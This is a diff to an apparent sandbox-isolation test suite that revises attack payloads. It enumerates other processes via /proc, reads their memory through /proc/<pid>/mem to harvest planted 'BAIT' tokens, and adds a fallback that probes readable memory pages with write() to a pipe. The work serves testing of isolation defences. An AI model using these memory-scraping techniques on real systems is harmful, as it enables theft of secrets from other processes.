@@ -5,8 +5,11 @@ from attacks.model import Attack
 PIDS = """
 import ctypes, os, re, signal, sys, time
 libc = ctypes.CDLL(None, use_errno=True)
-others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
-others = sorted({*others, os.getppid()} - {0})
+try:
+    others = {int(name) for name in os.listdir("/proc") if name.isdigit()}
+except OSError:
+    others = set(range(1, 100))
+others = sorted((others | {os.getppid()}) - {0, os.getpid()})
 def regions(pid):
     for line in open(f"/proc/{pid}/maps"):
         span, rights, *_ = line.split()
@@ -18,15 +21,34 @@ def regions(pid):
 READ_MEMORY = (
     PIDS
     + """
+SECRET = re.compile(rb"BAIT-[a-z]+-[0-9a-f]{16}")
+def pages():
+    # The pages of this process, without /proc: the kernel says of an address whether it can be read.
+    libc.sbrk.restype = ctypes.c_void_p
+    reading, writing = os.pipe()
+    near = [id(pages), id(object()), id(os.environ), libc.sbrk(0), ctypes.addressof(ctypes.c_int(0))]
+    near += [ctypes.c_void_p.in_dll(libc, "environ").value, ctypes.addressof(ctypes.create_string_buffer(1 << 20))]
+    for chunk in sorted({address >> 25 for address in near}):
+        for address in range(chunk << 25, chunk + 1 << 25, 4096):
+            if libc.write(writing, ctypes.c_void_p(address), 4096) == 4096:
+                yield os.read(reading, 4096)
 def secrets(pid):
     found = set()
-    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
-        for start, size in regions(pid):
-            try:
-                memory.seek(start)
-                found.update(re.findall(rb"BAIT-[a-z]+-[0-9a-f]{16}", memory.read(size)))
-            except OSError:
-                pass
+    try:
+        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
+        spans = list(regions(pid))
+    except OSError:
+        if pid != "self":
+            raise
+        for page in pages():
+            found.update(SECRET.findall(page))
+        return found
+    for start, size in spans:
+        try:
+            memory.seek(start)
+            found.update(SECRET.findall(memory.read(size)))
+        except OSError:
+            pass
     return found
 """
 )
